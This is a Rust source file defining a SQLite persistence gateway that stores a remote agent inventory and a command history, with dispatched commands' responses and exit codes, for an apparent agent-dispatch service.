//! The persistence gateway: durable agent inventory plus the append-only
//! command history that backs dispatch correlation.

use std::path::{Path, PathBuf};

use rusqlite::{params, params_from_iter, Connection};

use crate::time::now_utc_string;
use crate::types::{AgentRecord, EventRecord, GatewayError, PendingReply};

/// Storage-backend-agnostic boundary consumed by the dispatch scheduler, the
/// reply correlator, and the HTTP control plane. A single SQLite-backed
/// implementation ([`SqliteGateway`]) ships with this crate; any embedded
/// relational store could satisfy the same contract.
pub trait PersistenceGateway: Send + Sync {
    fn init(&self) -> Result<(), GatewayError>;

    fn count_agents(&self, os: Option<&str>) -> Result<i64, GatewayError>;

    fn list_agents(
        &self,
        os: Option<&str>,
        entity: Option<&str>,
    ) -> Result<Vec<AgentRecord>, GatewayError>;

    fn add_agent(&self, id: &str, hostname: &str, address: &str, os: &str)
        -> Result<(), GatewayError>;

    fn update_agent_addr_and_hostname(
        &self,
        id: &str,
        hostname: &str,
        address: &str,
    ) -> Result<(), GatewayError>;

    /// Inserts a brand new agent, or refreshes hostname/address for one that
    /// already exists. Returns `true` if the agent was newly created.
    fn upsert_agent(
        &self,
        id: &str,
        hostname: &str,
        address: &str,
        os: &str,
    ) -> Result<bool, GatewayError>;

    fn delete_agents(&self, entity: &str, os: Option<&str>) -> Result<Vec<String>, GatewayError>;

    fn get_last_row_id(&self) -> Result<i64, GatewayError>;

    /// Appends one `CommandHistory` row per id, in order, with a null
    /// response. The caller is responsible for knowing that the assigned
    /// `count` values form the contiguous block starting at
    /// `get_last_row_id() + 1`, per the single-writer dispatch invariant.
    fn add_agent_events(
        &self,
        ids: &[String],
        event: &str,
        event_detail: &str,
    ) -> Result<(), GatewayError>;

    fn add_event_responses(&self, buffer: &[PendingReply]) -> Result<(), GatewayError>;

    fn has_pending_responses(&self) -> Result<bool, GatewayError>;

    fn agent_history(&self, id: &str, os: Option<&str>) -> Result<Vec<EventRecord>, GatewayError>;

    fn agents_history(
        &self,
        ids: &[String],
        reverse: bool,
        os: Option<&str>,
    ) -> Result<Vec<EventRecord>, GatewayError>;
}

/// SQLite-backed gateway. Opens one connection per call, matching the
/// source's connection-per-call model; WAL plus a relaxed synchronous mode
/// let HTTP reads proceed concurrently with dispatch/correlator writes.
pub struct SqliteGateway {
    path: PathBuf,
}

impl SqliteGateway {
    pub fn open(path: impl Into<PathBuf>) -> Self {
        SqliteGateway { path: path.into() }
    }

    fn conn(&self) -> Result<Connection, GatewayError> {
        let conn = Connection::open(&self.path)?;
        apply_pragmas(&conn)?;
        Ok(conn)
    }
}

fn apply_pragmas(conn: &Connection) -> Result<(), GatewayError> {
    conn.execute_batch(
        "PRAGMA journal_mode=WAL;
         PRAGMA synchronous=NORMAL;
         PRAGMA temp_store=MEMORY;
         PRAGMA mmap_size=268435456;
         PRAGMA foreign_keys=ON;",
    )?;
    Ok(())
}

fn apply_schema(conn: &Connection) -> Result<(), GatewayError> {
    conn.execute_batch(include_str!("schema.sql"))?;
    Ok(())
}

fn map_agent(row: &rusqlite::Row<'_>) -> Result<AgentRecord, rusqlite::Error> {
    Ok(AgentRecord {
        id: row.get(0)?,
        hostname: row.get(1)?,
        address: row.get(2)?,
        os: row.get(3)?,
    })
}

fn map_event(row: &rusqlite::Row<'_>) -> Result<EventRecord, rusqlite::Error> {
    Ok(EventRecord {
        count: row.get(0)?,
        time: row.get(1)?,
        id: row.get(2)?,
        event: row.get(3)?,
        event_detail: row.get(4)?,
        response: row.get(5)?,
        exit_code: row.get(6)?,
    })
}

impl PersistenceGateway for SqliteGateway {
    fn init(&self) -> Result<(), GatewayError> {
        if let Some(parent) = Path::new(&self.path).parent() {
            if !parent.as_os_str().is_empty() {
                std::fs::create_dir_all(parent).map_err(|e| {
                    GatewayError::NotFound(format!("cannot create {}: {e}", parent.display()))
                })?;
            }
        }
        let conn = self.conn()?;
        apply_schema(&conn)
    }

    fn count_agents(&self, os: Option<&str>) -> Result<i64, GatewayError> {
        let conn = self.conn()?;
        let count = match os {
            Some(os) => conn.query_row(
                "SELECT COUNT(*) FROM BotAgents WHERE os = ?1",
                params![os],
                |row| row.get(0),
            )?,
            None => conn.query_row("SELECT COUNT(*) FROM BotAgents", [], |row| row.get(0))?,
        };
        Ok(count)
    }

    fn list_agents(
        &self,
        os: Option<&str>,
        entity: Option<&str>,
    ) -> Result<Vec<AgentRecord>, GatewayError> {
        let conn = self.conn()?;
        let id_filter = entity.filter(|e| *e != "*");
        let mut clauses = Vec::new();
        let mut bound: Vec<&dyn rusqlite::ToSql> = Vec::new();
        if let Some(id) = &id_filter {
            clauses.push("id = ?");
            bound.push(id);
        }
        if let Some(os) = &os {
            clauses.push("os = ?");
            bound.push(os);
        }
        let where_clause = if clauses.is_empty() {
            String::new()
        } else {
            format!(" WHERE {}", clauses.join(" AND "))
        };
        let sql = format!("SELECT id, hostname, address, os FROM BotAgents{where_clause}");
        let mut stmt = conn.prepare(&sql)?;
        let rows = stmt.query_map(params_from_iter(bound), map_agent)?;
        let mut agents = Vec::new();
        for r in rows {
            agents.push(r?);
        }
        Ok(agents)
    }

    fn add_agent(
        &self,
        id: &str,
        hostname: &str,
        address: &str,
        os: &str,
    ) -> Result<(), GatewayError> {
        let conn = self.conn()?;
        conn.execute(
            "INSERT INTO BotAgents (id, hostname, address, os) VALUES (?1, ?2, ?3, ?4)",
            params![id, hostname, address, os],
        )?;
        Ok(())
    }

    fn update_agent_addr_and_hostname(
        &self,
        id: &str,
        hostname: &str,
        address: &str,
    ) -> Result<(), GatewayError> {
        let conn = self.conn()?;
        conn.execute(
            "UPDATE BotAgents SET hostname = ?2, address = ?3 WHERE id = ?1",
            params![id, hostname, address],
        )?;
        Ok(())
    }

    fn upsert_agent(
        &self,
        id: &str,
        hostname: &str,
        address: &str,
        os: &str,
    ) -> Result<bool, GatewayError> {
        let conn = self.conn()?;
        let exists: bool = conn.query_row(
            "SELECT EXISTS(SELECT 1 FROM BotAgents WHERE id = ?1)",
            params![id],
            |row| row.get(0),
        )?;
        if exists {
            conn.execute(
                "UPDATE BotAgents SET hostname = ?2, address = ?3 WHERE id = ?1",
                params![id, hostname, address],
            )?;
            Ok(false)
        } else {
            conn.execute(
                "INSERT INTO BotAgents (id, hostname, address, os) VALUES (?1, ?2, ?3, ?4)",
                params![id, hostname, address, os],
            )?;
            Ok(true)
        }
    }

    fn delete_agents(&self, entity: &str, os: Option<&str>) -> Result<Vec<String>, GatewayError> {
        let conn = self.conn()?;
        let ids: Vec<String> = if entity == "*" {
            let mut stmt = match os {
                Some(_) => conn.prepare("SELECT id FROM BotAgents WHERE os = ?1")?,
                None => conn.prepare("SELECT id FROM BotAgents")?,
            };
            let rows = match os {
                Some(os) => stmt.query_map(params![os], |row| row.get(0))?,
                None => stmt.query_map([], |row| row.get(0))?,
            };
            rows.collect::<Result<Vec<_>, _>>()?
        } else {
            let found: Option<String> = conn
                .query_row(
                    "SELECT id FROM BotAgents WHERE id = ?1 AND (?2 IS NULL OR os = ?2)",
                    params![entity, os],
                    |row| row.get(0),
                )
                .ok();
            found.into_iter().collect()
        };
        for id in &ids {
            conn.execute("DELETE FROM BotAgents WHERE id = ?1", params![id])?;
        }
        Ok(ids)
    }

    fn get_last_row_id(&self) -> Result<i64, GatewayError> {
        let conn = self.conn()?;
        let last: i64 = conn.query_row(
            "SELECT COALESCE(MAX(count), 0) FROM CommandHistory",
            [],
            |row| row.get(0),
        )?;
        Ok(last)
    }

    fn add_agent_events(
        &self,
        ids: &[String],
        event: &str,
        event_detail: &str,
    ) -> Result<(), GatewayError> {
        let mut conn = self.conn()?;
        let tx = conn.transaction()?;
        let now = now_utc_string();
        {
            let mut stmt = tx.prepare(
                "INSERT INTO CommandHistory (time, id, event, event_detail, response, exit_code)
                 VALUES (?1, ?2, ?3, ?4, NULL, NULL)",
            )?;
            for id in ids {
                stmt.execute(params![now, id, event, event_detail])?;
            }
        }
        tx.commit()?;
        Ok(())
    }

    fn add_event_responses(&self, buffer: &[PendingReply]) -> Result<(), GatewayError> {
        let mut conn = self.conn()?;
        let tx = conn.transaction()?;
        {
            let mut stmt = tx.prepare(
                "UPDATE CommandHistory SET response = ?2, exit_code = ?3 WHERE count = ?1",
            )?;
            for reply in buffer {
                stmt.execute(params![reply.cmd_id, reply.result, reply.exit_code])?;
            }
        }
        tx.commit()?;
        Ok(())
    }

    fn has_pending_responses(&self) -> Result<bool, GatewayError> {
        let conn = self.conn()?;
        let pending: bool = conn.query_row(
            "SELECT EXISTS(SELECT 1 FROM CommandHistory WHERE response IS NULL)",
            [],
            |row| row.get(0),
        )?;
        Ok(pending)
    }

    fn agent_history(&self, id: &str, os: Option<&str>) -> Result<Vec<EventRecord>, GatewayError> {
        self.agents_history(std::slice::from_ref(&id.to_owned()), false, os)
    }

    fn agents_history(
        &self,
        ids: &[String],
        reverse: bool,
        os: Option<&str>,
    ) -> Result<Vec<EventRecord>, GatewayError> {
        let conn = self.conn()?;
        let order = if reverse { "DESC" } else { "ASC" };
        let placeholders = ids.iter().map(|_| "?").collect::<Vec<_>>().join(",");
        let sql = format!(
            "SELECT h.count, h.time, h.id, h.event, h.event_detail, h.response, h.exit_code
             FROM CommandHistory h
             JOIN BotAgents a ON a.id = h.id
             WHERE h.id IN ({placeholders}) AND (?{} IS NULL OR a.os = ?{})
             ORDER BY h.count {order}",
            ids.len() + 1,
            ids.len() + 1,
        );
        let mut stmt = conn.prepare(&sql)?;
        let mut bound: Vec<&dyn rusqlite::ToSql> =
            ids.iter().map(|id| id as &dyn rusqlite::ToSql).collect();
        bound.push(&os);
        let rows = stmt.query_map(params_from_iter(bound), map_event)?;
        let mut events = Vec::new();
        for r in rows {
            events.push(r?);
        }
        Ok(events)
    }
}
